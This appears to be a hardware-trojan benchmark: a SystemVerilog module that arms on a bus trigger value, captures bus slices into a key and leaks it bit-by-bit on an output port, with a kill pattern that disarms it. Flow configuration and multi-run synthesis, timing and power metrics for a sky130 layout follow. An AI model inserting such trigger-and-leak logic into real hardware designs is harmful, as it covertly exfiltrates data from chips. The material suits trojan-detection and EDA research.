--- src/rtl/trojan_leak_param.sv ---
// Bus monitor that arms on a trigger pattern, captures NSLICE slices of the bus into a key,
// then emits the key OUT_W bits per beat, REPEATS times, with a kill pattern that disarms it.
module trojan_leak_param #(
    parameter int unsigned       DATA_W   = 64,
    parameter int unsigned       TRIG_W   = 32,
    parameter logic [TRIG_W-1:0] TRIG_VAL = 32'h0044ab93,
    parameter logic [TRIG_W-1:0] KILL_VAL = 32'h00dead00,
    parameter int unsigned       SEL_W    = 3,
    parameter int unsigned       SLICE_W  = 8,
    parameter int unsigned       NSLICE   = 4,
    parameter int unsigned       OUT_W    = 2,
    parameter int unsigned       REPEATS  = 1
) (
    input  logic              clk,
    input  logic              rst_all_n,
    input  logic [DATA_W-1:0] data,
    output logic [OUT_W-1:0]  out,
    output logic              out_valid,
    output logic              busy
);

    localparam int unsigned KEY_W   = NSLICE * SLICE_W;
    localparam int unsigned BEATS   = KEY_W / OUT_W;
    localparam int unsigned NSRC    = DATA_W / SLICE_W;
    localparam int unsigned NSEL    = 1 << SEL_W;
    localparam int unsigned NCAND   = (NSRC < NSEL) ? NSRC : NSEL;
    localparam int unsigned CAP_CW  = (NSLICE > 1)  ? $clog2(NSLICE)  : 1;
    localparam int unsigned BEAT_CW = (BEATS > 1)   ? $clog2(BEATS)   : 1;
    localparam int unsigned REP_CW  = (REPEATS > 1) ? $clog2(REPEATS) : 1;

    typedef enum logic [1:0] {IDLE, CAPTURE, LEAK} state_t;

    state_t             state;
    logic [KEY_W-1:0]   key;
    logic [SEL_W-1:0]   sel;
    logic [CAP_CW-1:0]  cap_cnt;
    logic [BEAT_CW-1:0] beat_cnt;
    logic [REP_CW-1:0]  rep_cnt;

    logic               trig_hit;
    logic               kill_hit;
    logic [SLICE_W-1:0] src_slice;
    logic [KEY_W-1:0]   key_cap;
    logic [KEY_W-1:0]   key_rot;

    assign trig_hit = (data[TRIG_W-1:0] == TRIG_VAL);
    assign kill_hit = (data[TRIG_W-1:0] == KILL_VAL);
    assign key_rot  = {key[OUT_W-1:0], key[KEY_W-1:OUT_W]};

    // Selected bus slice; selects that fall past the top of the bus fall back to slice 0
    always_comb begin
        src_slice = data[SLICE_W-1:0];
        for (int unsigned i = 0; i < NCAND; i++) begin
            if (32'(sel) == i) src_slice = data[i*SLICE_W +: SLICE_W];
        end
    end

    // Key with the current capture slot overwritten
    always_comb begin
        key_cap = key;
        for (int unsigned j = 0; j < NSLICE; j++) begin
            if (32'(cap_cnt) == j) key_cap[j*SLICE_W +: SLICE_W] = src_slice;
        end
    end

    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            state     <= IDLE;
            key       <= '0;
            sel       <= '0;
            cap_cnt   <= '0;
            beat_cnt  <= '0;
            rep_cnt   <= '0;
            out       <= '0;
            out_valid <= 1'b0;
            busy      <= 1'b0;
        end else if (kill_hit) begin
            state     <= IDLE;
            key       <= '0;
            sel       <= '0;
            cap_cnt   <= '0;
            beat_cnt  <= '0;
            rep_cnt   <= '0;
            out       <= '0;
            out_valid <= 1'b0;
            busy      <= 1'b0;
        end else begin
            case (state)
                IDLE: begin
                    if (trig_hit) begin
                        sel     <= data[TRIG_W +: SEL_W];
                        cap_cnt <= '0;
                        busy    <= 1'b1;
                        state   <= CAPTURE;
                    end
                end
                CAPTURE: begin
                    key <= key_cap;
                    if (cap_cnt == CAP_CW'(NSLICE - 1)) begin
                        beat_cnt  <= '0;
                        rep_cnt   <= '0;
                        out       <= key_cap[OUT_W-1:0];
                        out_valid <= 1'b1;
                        state     <= LEAK;
                    end else begin
                        cap_cnt <= cap_cnt + CAP_CW'(1);
                    end
                end
                LEAK: begin
                    // Rotate rather than shift so each repeat replays the full key
                    key <= key_rot;
                    out <= key_rot[OUT_W-1:0];
                    if (beat_cnt == BEAT_CW'(BEATS - 1)) begin
                        beat_cnt <= '0;
                        if (rep_cnt == REP_CW'(REPEATS - 1)) begin
                            out       <= '0;
                            out_valid <= 1'b0;
                            busy      <= 1'b0;
                            state     <= IDLE;
                        end else begin
                            rep_cnt <= rep_cnt + REP_CW'(1);
                        end
                    end else begin
                        beat_cnt <= beat_cnt + BEAT_CW'(1);
                    end
                end
                default: state <= IDLE;
            endcase
        end
    end

endmodule

--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_leak_param
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_leak_param.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_ASPECT_RATIO = 0.6
export CORE_MARGIN = 2
export CORE_UTILIZATION = 32
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 7
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name clk -period 2.9 [get_ports clk]
set_clock_uncertainty 0.05 [all_clocks]
set_input_delay 0.725 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.725 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
# [Word level (Yosys, flattened, before mapping)]
# Cells that the tools add are included.
[op_classes] add_sub_neg=3 n_eq_ne=23 n_mux=48 reduce_logical=17
[op_table] cell="$mux W8" n=11
[op_table] cell="$pmux W32 S2" n=1
[op_table] cell="$eq A32 B23 Y1 const B" n=1
[op_table] cell="$eq A32 B24 Y1 const B" n=1
[op_table] cell="$mux W32" n=1
[op_table] cell="$mux W2" n=12
[op_table] cell="$ne A3 B3 Y1 const B" n=8
[op_table] cell="$eq A3 B3 Y1 const B" n=4
[op_table] cell="$mux W4" n=3
[op_table] cell="$reduce_and A4 Y1" n=3
[op_table] cell="$mux W1" n=10
[op_table] cell="$reduce_and A2 Y1" n=5
[op_table] cell="$mux W3" n=3
[op_table] cell="$reduce_bool A3 Y1" n=3
[op_table] cell="$pmux W2 S2" n=2
[op_table] cell="$pmux W4 S2" n=1
[op_table] cell="$eq A2 B2 Y1 const B" n=3
[op_table] cell="$eq A3 B2 Y1 const B" n=2
[op_table] cell="$pmux W1 S2" n=3
[op_table] cell="$pmux W2 S3" n=1
[op_table] cell="$reduce_and A3 Y1" n=2
[op_table] cell="$add A4 B1 Y4 const B" n=1
[op_table] cell="$eq A2 B1 Y1 const B" n=2
[op_table] cell="$eq A4 B4 Y1 const B" n=1
[op_table] cell="other kinds (5)" n=7
[totals] regBits=48 word_cells=104

# [Logic depth before layout (Yosys ltp)]
# Gate-level depths: netlist (run 1).
[depth] depth_word=12 ltp_mapped=7

# [Worst setup path before layout (run 1)]
# No wires, ideal clock.
[synth_timing] kind="input to register" startpoint="in data[7]" endpoint="reg key[21]" setup_time_ps=123 arrival_ps=1928 required_time_ps=2727 path_slack_ps=800 path_stages=5 n_path_buf=1 cell_sequence="or4b_1 nor4_2 nand3_2 buf_2 o221a_2"
[synth_via] elab_chain_cells=3
[synth_rtl] item="from (decl)" line_no="16" rtl="input logic [DATA_W-1:0] data,"
[synth_rtl] item="$eq A32 B24 Y1 *" line_no="47" rtl="assign kill_hit = (data[TRIG_W-1:0] == KILL_VAL);"
[synth_rtl] item="$ne A3 B3 Y1 (no source line) or $reduce_bool A3 Y1 (tied branches)"
[synth_rtl] item="$reduce_and A2 Y1 (no source line)"
[synth_rtl] item="to (signal assigned)" line_no="98" rtl="key <= key_cap;"
[synth_rtl] item="to (signal assigned)" line_no="111" rtl="key <= key_rot;"
[synth_rtl] item="to (decl)" line_no="34" rtl="logic [KEY_W-1:0] key;"
# Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.
# A chain may end at the register's enable or synchronous reset.

# [Worst setup path after layout (run 1)]
[layout_timing] startpoint="in data[7]" endpoint="reg out[1]"
[layout_via] elab_chain_cells=3
[layout_rtl] item="$eq A32 B24 Y1 *" line_no="47"
[layout_rtl] item="$ne A3 B3 Y1 (no source line) or $reduce_bool A3 Y1 (tied branches)"
[layout_rtl] item="$reduce_and A2 Y1 (no source line)"
[layout_rtl] item="to (signal assigned)" line_no="102" rtl="out <= key_cap[OUT_W-1:0];"
[layout_rtl] item="to (signal assigned)" line_no="112" rtl="out <= key_rot[OUT_W-1:0];"
[layout_rtl] item="to (decl)" line_no="17" rtl="output logic [OUT_W-1:0] out,"
# Marks and branches as above.

==> metrics.yaml, run 1 <==
status: "complete, no violations"
wl_per_cell_um: 18.3
synth_ff_type: "dfrtp_1"
die_area_mm2: 0.0109
cts_hold_buf: 0
cp-end-kind: "register"
p_per_area_mw_per_mm2: 314
grt_pass1_wl_um: 16000
post_synth.cell_area_avg_um2: 9.93
hp-class: "input port to async pin"
synth_top_family_by_area: "compound AO/OA/AOI/OAI gates"
gr-total-overflow: 0
grt_max_degree: 35
synthDistinctLibCells: 59
cp.required_ns: 3.03
cts_sinks: 47
period_minus_slack_ns: 2.38
cts_buffers: 5
post_cts_buffers: 0
portBuffers: 69
worst_pin_slew_ns: 0.798
drc: 0
crit_arrival_ns: 2.51
final_cell_mix: "64 x clkdlybuf4s50_1, 47 x dfrtp_1, 39 x nor2_1"
final_common_cell: "clkdlybuf4s50_1"
crit_fanout: 20
ys_ff_latch: 47
drtIter0Drc: 164
stdcell_count: 524
core-area_mm2: 0.00984
ir_worst_vdd_uv: 160
worstSetupStartpointType: "input port"
grt_pass1_vias: 2998
drv_cap: 0
synth_cells: 325
leakagePower_nw: 1.60
grt_antenna_before_repair: 0
synth_xor_area_share_pct: 0.271
synthArstFlopShare_pct: 100
dieWidth_um: 134
synth_fp_nets: 396
max_freq_mhz: 420
drt_pass1_iterations: 4
drive_above_1_share_pct: 12.6
antennaDiodeCount: 0
r2r-start: "sel[1]$_DFFE_PN0P_"
clock_path_buffers: 2
slew_headroom_pct: 46.8
grt_setup_unrepaired: "false"
place_congestion: 0.834
synth.area.mux_share_pct: 16.9
synth_simple_gate_area_share_pct: 18.7
clk_pin_slew_ns: 0.09
synth-edff-count: 0
dp.cells: 517
final_nets: 460
start_util_pct: 32.8
yosysWarnings: 0
clk_latency_ns: 0.31
maxSlewViolCount: 0
critPathLaunch: "data[7]"
core.rowCount: 28
yosysSeqAreaShare_pct: 36.4
area_growth_pct: 28.2
hold_viol_final: 0
setup_viol: 0
synth_area_mm2: 0.00323
path_class: "input port to register"
ctsResizeCount: 0
setup_tns_ns: 0
via_per_inst: 5.47
cts_tree: "yes"
postRouteAntennaNets: 0
wl_um: 9620
io_pins: 70
place.detailed.hpwl_um: 7230
grt_use_total_pct: 19.1
vias: 2868
finalCritPeriodShare_pct: 82.2
synth_compound_area_share_pct: 21.3
h-tree-depth: 2
die_h_um: 81.8
synth_fa_ha_area_share_pct: 1.94
cts-root-buf: "clkbuf_8"
## through the flow
stage               hold slack (ns)  cell area, µm²  util (%)  power (W)  setup slack (ns)
floorplan                     0.379            3230         -   0.000753             0.800
global placement              0.474            4050      41.1   0.000880             0.231
detailed placement            0.486            4050      41.1   0.000886             0.204
CTS                           0.246            4140      42.0    0.00131             0.504
global route                  0.261            4140      42.0    0.00135             0.407
finish                        0.244            4140      42.0    0.00130             0.517
## metal layers
metal / routed length, µm / up-vias / GRT usage [%]
met5: 0 / - / 0
met4: 93 / 0 / 4.47
met3: 766 / 11 / 5.56
met2: 4220 / 90 / 30.1
met1: 4540 / 1402 / 26.2
li1: - / 1365 / -
## kinds of logic after synthesis
kind of cell    count (synthesis)
buf+inv                        26
flops                          47
fa+ha+maj                       5
mux                            25
compound gates                101
xor+xnor                        1
simple gates                  120
## Yosys cell counts, drive strengths merged (2+ instances only)
cell,number,area (µm²)
dfrtp,47,1180
nor2,40,153
nand2,37,141
a21oi,33,165
buf,16,105
mux4,16,387
o21a,16,120
o22ai,16,100
nand3,8,45.0
clkbuf,7,26.3
mux2i,7,136
nand2b,7,43.8
o221a,6,67.6
a221oi,5,43.8
ha,5,62.6
nor3,5,30.0
o21ai,5,25.0
a211oi,4,30.0
nor2b,4,25.0
a21o,3,22.5
a22o,3,26.3
inv,3,11.3
nor4b,3,26.3
a311oi,2,17.5
and3,2,12.5
mux2,2,22.5
nand3b,2,15.0
nor3b,2,20.0
nor4,2,18.8
o2bb2ai,2,17.5
## final cells by class
type / count / area, µm²
clock buffer: 6 / 82.6
clock inverter: 1 / 5.00
fill: 940 / 5710
inverter: 3 / 11.3
multi-input combinational: 252 / 1910
sequential: 47 / 1180
tap: 135 / 169
timing repair buffer: 80 / 783
## where the power goes
group          internal, W  total (W)  switching, W
registers         0.000668   0.000680     0.0000118
clock network     0.000188   0.000424      0.000237
logic             0.000119   0.000192     0.0000726
## state kept, by name (all words and copies together) (netlist names)
| register | flops |
|---|---|
| beat_cnt | 4 |
| busy | 1 |
| cap_cnt | 2 |
| key | 32 |
| out | 2 |
| out_valid | 1 |
| sel | 3 |
| state | 2 |
## worst max-delay path, stage by stage
cell and delay (ns):
clkdlybuf4s50_1 0.44, or4b_1 0.55, nor4_2 0.29, and3_1 0.26
buf_12 0.17, a2111oi_0 0.07
## path summary, 6_finish.rpt
path / endpoint / slack (ns) / depth (start not counted)
max in group asynchronous: key[28]$_DFFE_PN0P_ / 1.78 / 2
worst min-delay path: key[21]$_DFFE_PN0P_ / 0.24 / 1
worst max-delay path: out[1]$_DFFE_PN0P_ / 0.52 / 6
worst min register to register: key[26]$_DFFE_PN0P_ / 0.50 / 2
min in group clk: key[26]$_DFFE_PN0P_ / 0.50 / 2
worst max register to register: key[21]$_DFFE_PN0P_ / 0.52 / 4
Note: power is estimated with default switching activity, not from simulation.
==> run 2, diff against run 1 <==
clock period = 2.45 ns   (was 2.9 ns; I/O delays follow)
==> metrics.yaml, run 2 (synthesis results as in run 1) <==
h-tree-depth: 2
worst_pin_slew_ns: 0.705
swShare_pct: 23.1
p_per_area_mw_per_mm2: 382
drtIter0Drc: 210
place_congestion: 0.794
wl_um: 9700
dpl_cell_area_mm2: 0.00417
grt_pass1_wl_um: 16200
crit_fanout: 20
area_growth_pct: 32.4
grt_setup_unrepaired: "false"
final_common_cell: "clkdlybuf4s50_1"
worstSetupStartpointType: "input port"
core-area_mm2: 0.00984
setup_viol: 0
start_util_pct: 32.8
cts_hold_buf: 0
crit_slowest_cell: "or4b_1"
clock_path_buffers: 2
max_stage_delay_ns: 0.55
core.rowCount: 28
post_cts_buffers: 0
grt_max_degree: 29
preCtsSetupSlack_ns: -0.148
final_nets: 474
pwr-share-clk_pct: 36.0
die_h_um: 81.8
antennaDiodeCount: 0
cts_buffers: 5
drc: 0
sequentialPowerShare_pct: 49.4
stdcell_count: 538
cp.required_ns: 2.59
postRouteAntennaNets: 0
design_area_mm2: 0.00427
cp_top_family: "simple AND/OR/NAND/NOR gates"
crit_arrival_ns: 2.40
io_pins: 70
grt_antenna_before_repair: 0
die_area_mm2: 0.0109
vias: 2903
dp.cells: 531
drive_above_1_share_pct: 15.6
wl_per_cell_um: 18.0
final_cell_mix: "64 x clkdlybuf4s50_1, 47 x dfrtp_1, 39 x nor2_1"
place.detailed.hpwl_um: 7340
leakagePower_nw: 1.69
path_buf_inv: 2
cp-end-kind: "register"
largest_register: "key"
hold_slack_ns: 0.198
dieWidth_um: 134
max_freq_mhz: 441
largest_reg_flops: 32
reg_top3: "key (32), beat_cnt (4), sel (3)"
clk_latency_ns: 0.32
slew_headroom_pct: 53.0
finalWorstSetupSlack_ns: 0.183
drt_pass1_iterations: 5
comb_power_share_pct: 14.5
cts_tree: "yes"
ir_worst_vdd_uv: 191
clk_pin_slew_ns: 0.09
hp-class: "input port to async pin"
path_cells: "clkdlybuf4s50_1 > or4b_1 > nor4_2 > and3_1 > buf_12 > a2111oi_0"
p_int_w: 0.00125
finalCritPeriodShare_pct: 92.5
power_w: 0.00163
hold_viol_final: 0
gr-total-overflow: 0
path_class: "input port to register"
cts-root-buf: "clkbuf_8"
via_per_inst: 5.40
p_switching_w: 0.000377
grt_pass1_vias: 2963
ctsResizeCount: 0
drv_cap: 0
portBuffers: 69
status: "complete, no violations"
maxSlewViolCount: 0
cts_sinks: 47
period_minus_slack_ns: 2.27
grt_use_total_pct: 19.3
run 2: cell types whose count changed in the layout (fill, tap and decap cells not counted):
cell	before	now
buf_12	2	3
buf_4	13	26
bufinv_16	0	1
clkbuf_4	0	1
clkbuf_8	6	5
clkinv_2	1	0
run 2: path summary, 6_finish.rpt:
path	from	endpoint	slack (ns)	depth (start not counted)
setup / recovery	data[7]	out[1]$_DFFE_PN0P_	0.18	6
hold / removal	rst_all_n	key[21]$_DFFE_PN0P_	0.20	1
setup reg to reg	sel[2]$_DFFE_PN0P_	out[1]$_DFFE_PN0P_	0.41	4
hold reg to reg	key[26]$_DFFE_PN0P_	key[26]$_DFFE_PN0P_	0.49	2
max in group asynchronous	rst_all_n	busy$_DFFE_PN0P_	1.61	2
min in group clk	key[26]$_DFFE_PN0P_	key[26]$_DFFE_PN0P_	0.49	2
run 2: power groups by stage:
stage | sequential, W | combinational (W) | clock, W
after floorplan | 0.000816 | 0.0000752 | 0
after global placement | 0.000820 | 0.000235 | 0
after detailed placement | 0.000821 | 0.000239 | 0
after CTS | 0.000806 | 0.000240 | 0.000598
after global routing | 0.000808 | 0.000257 | 0.000624
final | 0.000806 | 0.000237 | 0.000587
run 2: layout make-up:
cell class              instances  area [µm²]
flip-flops and latches         47        1180
clock buffers                   6        76.3
repair buffers                 94         901
clock inverters                 1        30.0
inverters                       3        11.3
fillers                       940        5570
multi-input cells             252        1910
well taps                     135         169
run 2: layer usage:
| metal | track usage (%) | vias to the layer above | wire, µm |
|---|---|---|---|
| met5 | 0 | - | 0 |
| met1 | 29.1 | 1423 | 4990 |
| met2 | 28.4 | 79 | 4060 |
| met4 | 3.51 | 0 | 74 |
| met3 | 4.51 | 8 | 574 |
| li1 | - | 1393 | - |
run 2: metrics by stage:
step / setup TNS [ns] / utilization [%]
after global placement: -2.43 / 42.3
after global routing: 0 / 43.4
after floorplan: 0 / -
after CTS: 0 / 43.4
final: 0 / 43.4
after detailed placement: -4.49 / 42.3
==> run 3, diff against run 2 <==
CTS_CLUSTER_DIAMETER = 30   (was default)
SLEW_MARGIN = default   (was 20)
==> results of run 3 <==
Final layout, timing and power as in run 2 (identical DEF).
